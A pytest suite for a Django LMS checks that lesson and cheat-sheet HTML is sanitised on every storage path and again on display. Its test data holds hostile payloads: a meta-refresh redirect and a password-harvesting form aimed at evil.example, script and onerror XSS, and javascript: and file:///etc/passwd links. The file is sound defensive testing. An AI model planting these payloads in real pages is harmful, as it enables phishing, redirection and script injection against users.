"""Authored and imported HTML is reduced to the documented safe subset (lms.html) on every path
that stores it (authoring services and forms, package import, the ORM itself, the data
migration) and again when a learner's page shows it.

Replays: a ``<meta http-equiv="refresh">`` payload (Vanessa219/vditor#1411, found by an
attacker's probe here too) and ``<img src=x onerror=...>`` in lesson content (frappe/lms#1964);
and, the other way round, a hyperlink in lesson content must survive (frappe/lms#2679).
"""

from __future__ import annotations

import importlib
import json
import re
from pathlib import Path

import pytest
from django.apps import apps as django_apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from courses.models import Course, LearningResource, Module
from courses.services import authoring as services
from courses.services.authoring import course_import_package
from courses.services.packages import course_export_package, package_problems
from courses.tests.factories import (
    AssignmentFactory,
    CourseFactory,
    LearningResourceFactory,
    ModuleFactory,
    make_course,
)
from lms.html import sanitise_html
from lms.tests.factories import AdminFactory

pytestmark = pytest.mark.django_db

PACKAGES = Path(__file__).resolve().parent.parent / "packages"
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
HOSTILE = (
    REFRESH
    + '<base href="https://evil.example/">'
    + '<form action="https://evil.example/steal" method="post"><input name="password"><button>Sign in</button></form>'
    + '<iframe src="https://evil.example/frame">frame text</iframe>'
    + "<style>body { display: none }</style>"
    + "<script>alert(1)</script>"
    + '<img src="x" onerror="alert(2)">'
    + '<p style="position:fixed" onclick="alert(3)" class="x">Read this.</p>'
)
# What is left of HOSTILE: the button's text (its tags go) and the paragraph without attributes.
HOSTILE_LEFT = "Sign in<p>Read this.</p>"


def draft_course() -> Course:
    return CourseFactory(status=Course.Status.DRAFT, description="About.")


# --- the sanitiser ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        (REFRESH + "<p>Welcome</p>", "<p>Welcome</p>"),
        ('<base href="https://evil.example/"><p>x</p>', "<p>x</p>"),
        ('<form action="https://evil.example/"><input name="p"></form><p>x</p>', "<p>x</p>"),
        ('<iframe src="https://evil.example/">inside</iframe><p>x</p>', "<p>x</p>"),
        ("<style>p { color: red }</style><p>x</p>", "<p>x</p>"),
        ("<script>alert(1)</script><p>x</p>", "<p>x</p>"),
        ('<img src=x onerror="alert(42)"><p>x</p>', "<p>x</p>"),
        ("<svg><script>alert(1)</script></svg><p>x</p>", "<p>x</p>"),
        ('<object data="x.swf">fallback</object><p>x</p>', "<p>x</p>"),
        ('<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>', "<p>x</p>"),
        ('<p style="color:red" class="c" id="i" onmouseover="x()">text</p>', "<p>text</p>"),
        ("<div><span>kept text</span></div>", "kept text"),
        ("<!-- a comment --><p>x</p>", "<p>x</p>"),
        (HOSTILE, HOSTILE_LEFT),
    ],
)
def test_unsafe_html_is_reduced_to_the_safe_subset(written, stored):
    assert sanitise_html(written) == stored


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://example.org/policy", True),
        ("http://example.org/policy", True),
        ("mailto:dpo@example.org", True),
        ("/courses/", True),
        ("#part-2", True),
        ("javascript:alert(1)", False),
        ("  JaVaScRiPt:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("file:///etc/passwd", False),
    ],
)
def test_links_keep_only_http_https_mailto_and_relative_addresses_and_get_noopener(href, kept):
    html = sanitise_html(f'<a href="{href}" target="_blank" rel="opener">link</a>')
    assert ('href="' in html) is kept
    assert 'rel="noopener noreferrer"' in html
    assert "target" not in html and 'rel="opener"' not in html


def test_a_body_inside_the_subset_is_stored_exactly_as_written():
    body = (
        '<h3>Rules</h3><p>Read the <a href="https://example.org/p" rel="noopener noreferrer">policy</a> and '
        '<abbr title="General Data Protection Regulation">GDPR</abbr>.</p><ol start="2"><li><em>One</em></li></ol>'
        '<table><caption>Who</caption><thead><tr><th scope="col">Role</th></tr></thead>'
        '<tbody><tr><td colspan="2">Officer</td></tr></tbody></table><pre><code>x</code></pre><hr>'
    )
    assert sanitise_html(body) == body
    assert sanitise_html(sanitise_html(HOSTILE)) == sanitise_html(HOSTILE)


def test_every_shipped_package_body_is_already_inside_the_subset():
    for path in sorted(PACKAGES.glob("*.json")):
        package = json.loads(path.read_text(encoding="utf-8"))
        for item in package["modules"] + package["resources"]:
            assert sanitise_html(item["body"]) == item["body"], (path.name, item["key"])


# --- every path that stores a body ---------------------------------------------------------------


def test_the_authoring_services_store_a_module_body_reduced():
    course = draft_course()
    module = services.module_create(
        course=course, data={"key": "m1", "title": "M", "body": HOSTILE, "estimated_minutes": 5}
    )
    module.refresh_from_db()
    assert module.body == HOSTILE_LEFT
    services.module_update(module=module, data={"body": REFRESH + "<p>Edited</p>"})
    module.refresh_from_db()
    assert module.body == "<p>Edited</p>"


def test_the_authoring_services_store_a_cheat_sheet_body_reduced():
    course = draft_course()
    resource = services.resource_create(
        course=course, data={"key": "r1", "title": "R", "kind": "cheat_sheet", "url": "", "body": HOSTILE}
    )
    resource.refresh_from_db()
    assert resource.body == HOSTILE_LEFT


def test_a_body_with_nothing_safe_in_it_is_refused_with_a_body_message_and_nothing_saved():
    course = draft_course()
    with pytest.raises(ValidationError) as error:
        services.resource_create(
            course=course,
            data={"key": "r1", "title": "R", "kind": "cheat_sheet", "url": "", "body": '<iframe src="x"></iframe>'},
        )
    assert "Nothing is left of this body" in error.value.message_dict["body"][0]
    with pytest.raises(ValidationError) as error:
        services.module_create(course=course, data={"key": "m1", "title": "M", "body": REFRESH, "estimated_minutes": 5})
    assert "body" in error.value.message_dict
    assert not LearningResource.objects.filter(course=course).exists()
    assert not Module.objects.filter(course=course).exists()


def test_the_module_form_stores_the_body_reduced(client):
    client.force_login(AdminFactory())
    course = draft_course()
    response = client.post(
        reverse("authoring_module_create", args=[course.pk]),
        {
            "title": "Welcome",
            "key": "m1",
            "body": REFRESH + '<p>Hi <a href="https://example.org/">there</a></p>',
            "video_url": "",
            "file_url": "",
            "estimated_minutes": 10,
        },
    )
    assert response.status_code == 302
    assert course.modules.get().body == '<p>Hi <a href="https://example.org/" rel="noopener noreferrer">there</a></p>'


def test_a_package_import_stores_module_and_cheat_sheet_bodies_reduced():
    package = json.loads((PACKAGES / "GDPR-101.json").read_text(encoding="utf-8"))
    package["modules"][0]["body"] = REFRESH + package["modules"][0]["body"]
    sheet = next(r for r in package["resources"] if r["kind"] == "cheat_sheet")
    original_sheet = sheet["body"]
    sheet["body"] = '<iframe src="https://evil.example/"></iframe><style>*{}</style>' + original_sheet
    course = course_import_package(package=package)
    module = course.modules.get(key=package["modules"][0]["key"])
    assert "meta" not in module.body and module.body.startswith("<")
    assert course.resources.get(key=sheet["key"]).body == original_sheet
    # the export shows what is stored, and from there the round trip is exact
    exported = course_export_package(course=course)
    assert "evil.example" not in json.dumps(exported)


def test_a_package_whose_body_has_nothing_safe_left_is_refused_and_nothing_imported():
    package = json.loads((PACKAGES / "GDPR-101.json").read_text(encoding="utf-8"))
    package["modules"][1]["body"] = REFRESH
    assert package_problems(package) == [
        "modules[1].body: has nothing left once unsafe HTML is removed (see the safe HTML subset)"
    ]
    with pytest.raises(ValidationError):
        course_import_package(package=package)
    assert not Course.objects.exists()


def test_the_import_page_stores_bodies_reduced(client):
    client.force_login(AdminFactory())
    package = json.loads((PACKAGES / "HS-101.json").read_text(encoding="utf-8"))
    package["modules"][0]["body"] += "<form action='https://evil.example/'><input name='pin'></form>"
    upload = SimpleUploadedFile("HS-101.json", json.dumps(package).encode(), content_type="application/json")
    response = client.post(reverse("authoring_course_import"), {"package": upload})
    assert response.status_code == 302
    body = Course.objects.get(code="HS-101").modules.order_by("order").first().body
    assert body == package["modules"][0]["body"].split("<form")[0]


def test_every_orm_write_stores_the_body_reduced():
    # The Django admin saves through save(); bulk paths skip save() but not the field.
    course = draft_course()
    module = ModuleFactory(course=course, body=HOSTILE)
    assert module.body == HOSTILE_LEFT
    module.refresh_from_db()
    assert module.body == HOSTILE_LEFT
    Module.objects.filter(pk=module.pk).update(body=REFRESH + "<p>Updated</p>")
    assert Module.objects.get(pk=module.pk).body == "<p>Updated</p>"
    module.body = "<p>Bulk</p><script>x()</script>"
    Module.objects.bulk_update([module], ["body"])
    assert Module.objects.get(pk=module.pk).body == "<p>Bulk</p>"
    [created] = LearningResource.objects.bulk_create(
        [LearningResource(course=course, key="r9", kind="cheat_sheet", title="S", body=REFRESH + "<p>S</p>")]
    )
    assert LearningResource.objects.get(key="r9", course=course).body == "<p>S</p>"


def test_the_data_migration_sanitises_bodies_stored_before_it():
    course = draft_course()
    module = ModuleFactory(course=course)
    resource = LearningResourceFactory(course=course, kind="cheat_sheet", url="")
    with connection.cursor() as cursor:  # as the rows stood before the migration
        cursor.execute(f"UPDATE {Module._meta.db_table} SET body = %s WHERE id = %s", [HOSTILE, module.pk])
        cursor.execute(f"UPDATE {LearningResource._meta.db_table} SET body = %s WHERE id = %s", [REFRESH, resource.pk])
    migration = importlib.import_module("courses.migrations.0003_safe_html_bodies")

    migration.sanitise_existing_bodies(django_apps, None)

    assert Module.objects.get(pk=module.pk).body == HOSTILE_LEFT
    assert LearningResource.objects.get(pk=resource.pk).body == ""


# --- and when shown ------------------------------------------------------------------------------


def test_a_learner_opening_a_module_is_never_sent_off_site(client):
    assignment = AssignmentFactory(course=make_course(questions=1, modules=1))
    module = assignment.course.modules.get()
    sheet = LearningResourceFactory(course=assignment.course, kind="cheat_sheet", url="", body="<p>Sheet</p>")
    # rows written around the ORM (a restored dump, raw SQL) are reduced on the way out too
    with connection.cursor() as cursor:
        for model, pk in ((Module, module.pk), (LearningResource, sheet.pk)):
            cursor.execute(f"UPDATE {model._meta.db_table} SET body = %s WHERE id = %s", [HOSTILE, pk])
    client.force_login(assignment.learner)

    for url in (
        reverse("player_module", args=[assignment.pk, module.pk]),
        reverse("player_resource", args=[assignment.pk, sheet.pk]),
    ):
        page = client.get(url).content.decode()
        assert "Read this." in page
        for unsafe in ("http-equiv", "evil.example", "<iframe", "onerror", "alert(", '<form action="https'):
            assert unsafe not in page, (url, unsafe)


# --- kept so ------------------------------------------------------------------------------------

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
DOC = Path(__file__).resolve().parents[2] / "docs" / "course-package-format.md"
# Plain-text emails Django renders itself: nothing in them is HTML.
TEXT_TEMPLATES = {"registration/password_reset_email.html", "registration/password_reset_subject.txt"}


def test_no_template_shows_stored_text_unescaped():
    offenders = []
    for path in sorted(TEMPLATES.rglob("*.*")):
        name = path.relative_to(TEMPLATES).as_posix()
        text = path.read_text(encoding="utf-8")
        if "|safe" in text.replace("|safe_html", "") or ("autoescape off" in text and name not in TEXT_TEMPLATES):
            offenders.append(name)
    assert offenders == []


def test_the_package_format_doc_lists_exactly_the_tags_and_attributes_that_survive():
    from lms.html import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

    section = DOC.read_text(encoding="utf-8").split("## Safe HTML", 1)[1].split("\n## ", 1)[0]
    rows = [line for line in section.splitlines() if line.startswith("| `")]
    tags, attributes = set(), {}
    for row in rows:
        names, kept = row.strip("|").split("|", 1)
        row_tags = set(re.findall(r"`([a-z0-9]+)`", names))
        tags |= row_tags
        row_attributes = set(re.findall(r"`([a-z]+)`", kept.split(";")[0]))
        for tag in row_tags:
            if row_attributes:
                attributes[tag] = row_attributes
    assert tags == set(ALLOWED_TAGS)
    assert attributes == {tag: set(names) for tag, names in ALLOWED_ATTRIBUTES.items()}


@pytest.mark.parametrize("href", ["//evil.example/x", "/\\evil.example", "\\\\evil.example", "http:evil.example"])
def test_a_link_that_looks_relative_but_leaves_the_site_loses_its_address(href):
    """Outside eyes: protocol-relative and backslash addresses were kept as "relative" links."""
    from lms.html import sanitise_html

    cleaned = sanitise_html(f'<a href="{href}">more</a>')
    assert "href" not in cleaned and "evil" not in cleaned and ">more</a>" in cleaned
